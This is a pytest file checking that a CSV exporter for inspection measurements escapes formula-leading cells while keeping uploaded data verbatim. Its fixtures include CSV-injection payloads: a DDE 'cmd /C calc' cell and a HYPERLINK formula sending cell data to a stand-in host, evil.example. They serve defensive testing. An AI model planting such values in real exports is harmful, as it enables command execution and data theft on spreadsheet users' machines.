"""CSV export: formula-leading cells escaped on the way out only; the model keeps the data verbatim."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest

from parsers import parse
from parsers.export import measurement_rows, rows_to_csv

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "inspection"


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_rows_to_csv_escapes_formula_leading_text_but_not_numbers() -> None:
    out = rows_to_csv(
        [
            ["id", "note", "value"],
            ["=1+1", "+cmd|' /C calc'!A0", -1.5],
            ["@SUM(A1)", "-x", "+3e-2"],
            ["\tTAB", "\rCR", None],
        ]
    )
    assert _cells(out) == [
        ["id", "note", "value"],
        ["'=1+1", "'+cmd|' /C calc'!A0", "-1.5"],
        ["'@SUM(A1)", "'-x", "+3e-2"],
        ["'\tTAB", "'\rCR", ""],
    ]
    assert out.endswith(b"\r\n")


def test_rows_to_csv_writes_dates_and_floats_exactly_and_refuses_nan() -> None:
    out = rows_to_csv([[datetime(2025, 3, 4, 8, 15), 0.1 + 0.2, 12]])
    assert _cells(out) == [["2025-03-04T08:15:00", "0.30000000000000004", "12"]]
    with pytest.raises(ValueError, match="not a finite number"):
        rows_to_csv([[float("nan")]])


def test_formula_cells_round_trip_kept_in_model_escaped_only_on_export() -> None:
    data = (FIXTURES / "csv/formula_cells.csv").read_bytes()
    batch = parse(data, filename="formula_cells.csv").inspection
    assert batch is not None
    m1, m2 = batch.measurements
    # the model holds the uploaded text verbatim
    assert m1.sample_id == '=HYPERLINK("http://evil.example/?x="&A1)'
    assert m2.extra["gauge_id"] == "=1+1"

    exported = rows_to_csv(measurement_rows(batch))
    cells = _cells(exported)
    assert cells[0] == [
        "sample_id",
        "characteristic",
        "value",
        "unit",
        "uncertainty",
        "coverage_factor",
        "measured_at",
        "operator",
        "gauge_id",
    ]
    assert cells[1] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1)',
        "d",
        "-1.5",
        "mm",
        "",
        "",
        "",
        "'@SUM(1+1)",
        "'+cmd|' /C calc'!A0",
    ]
    assert cells[2] == ["S2", "'-2+3", "2.5", "mm", "", "", "", "'-x", "'=1+1"]
    assert not any(c.startswith(("=", "+", "@")) for row in cells for c in row)

    # exporting did not touch the model, and the export re-imports with the same numbers
    assert m1.sample_id == '=HYPERLINK("http://evil.example/?x="&A1)'
    again = parse(exported, filename="export.csv").inspection
    assert again is not None
    assert [(m.value, m.unit) for m in again.measurements] == [(m.value, m.unit) for m in batch.measurements]
    assert [m.sample_id for m in again.measurements] == ["'" + m1.sample_id, "S2"]


def test_export_keeps_batch_columns_and_uncertainty() -> None:
    data = (FIXTURES / "csv/long_comma_utf8_bom.csv").read_bytes()
    batch = parse(data, filename="long.csv").inspection
    assert batch is not None
    again = parse(rows_to_csv(measurement_rows(batch)), filename="again.csv").inspection
    assert again is not None
    assert [m.record() for m in again.measurements] == [m.record() for m in batch.measurements]
    assert (again.lot_id, again.part_number) == (batch.lot_id, batch.part_number)
